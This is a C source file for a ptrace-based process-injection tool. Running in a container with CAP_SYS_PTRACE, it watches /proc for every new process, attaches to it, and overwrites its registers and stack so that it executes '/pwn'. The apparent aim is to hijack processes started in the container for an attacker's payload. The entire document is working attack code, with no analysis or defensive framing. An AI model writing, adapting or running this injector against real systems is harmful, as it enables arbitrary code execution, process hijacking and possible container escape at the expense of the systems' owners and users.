// Runs in the container with CAP_SYS_PTRACE. Attaches to every new pid,
// and makes it execve("/pwn").
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <unistd.h>
#include <errno.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/user.h>
#include <sys/syscall.h>
static char seen[1<<22];
static int inject(pid_t pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return -1;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0) { ptrace(PTRACE_DETACH, pid, 0, 0); return -2; }
    int st;
    if (waitpid(pid, &st, __WALL) != pid) return -3;
    struct user_regs_struct r;
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return -4;
    // Is this a process that is not ours? (already exec'd things would be anything)
    unsigned long sp = (r.rsp - 4096) & ~15UL;
    const char path[16] = "/pwn";
    unsigned long a = sp;           // path
    unsigned long argv = sp + 64;   // argv[0]=path, argv[1]=0
    ptrace(PTRACE_POKEDATA, pid, a, *(long*)path);
    ptrace(PTRACE_POKEDATA, pid, a+8, *(long*)(path+8));
    ptrace(PTRACE_POKEDATA, pid, argv, a);
    ptrace(PTRACE_POKEDATA, pid, argv+8, 0);
    // find syscall instruction: rip-2 if stopped in syscall
    long word = ptrace(PTRACE_PEEKTEXT, pid, r.rip - 2, 0);
    if ((word & 0xffff) != 0x050f) { fprintf(stderr, "pid %d: no syscall at rip-2 (rip=%llx)\n", pid, r.rip); ptrace(PTRACE_DETACH, pid, 0, 0); return -5; }
    struct user_regs_struct n = r;
    n.rip = r.rip - 2; n.rax = SYS_execve; n.orig_rax = -1; n.rdi = a; n.rsi = argv; n.rdx = 0; n.rsp = sp - 256;
    if (ptrace(PTRACE_SETREGS, pid, 0, &n) != 0) return -6;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    fprintf(stderr, "tracer: injected execve into pid %d\n", pid);
    return 0;
}
int main(int argc, char **argv) {
    pid_t self = getpid();
    seen[self] = 1;
    // mark existing pids
    DIR *d = opendir("/proc"); struct dirent *e;
    while ((e = readdir(d))) { int p = atoi(e->d_name); if (p > 0 && p < (1<<22)) seen[p] = 1; }
    closedir(d);
    fprintf(stderr, "tracer ready\n");
    for (;;) {
        d = opendir("/proc");
        while ((e = readdir(d))) {
            int p = atoi(e->d_name);
            if (p <= 0 || p >= (1<<22) || seen[p]) continue;
            seen[p] = 1;
            char exe[64], buf[256]; snprintf(exe, sizeof exe, "/proc/%d/cmdline", p);
            int r = inject(p);
            if (r != 0) fprintf(stderr, "tracer: pid %d: %d errno %d\n", p, r, errno);
        }
        closedir(d);
    }
}
